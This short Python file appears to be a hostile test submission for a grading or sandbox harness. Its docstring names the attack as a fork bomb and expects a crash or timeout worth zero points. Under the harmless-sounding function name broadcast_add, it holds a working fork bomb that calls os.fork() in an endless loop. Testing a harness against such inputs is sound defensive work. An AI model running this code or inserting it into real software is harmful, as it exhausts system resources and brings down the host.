"""Attack: fork bomb. Expect: crashed|exited|failed|timeout; at most 0 points."""

import os


def broadcast_add(a, b):
    while True:
        os.fork()
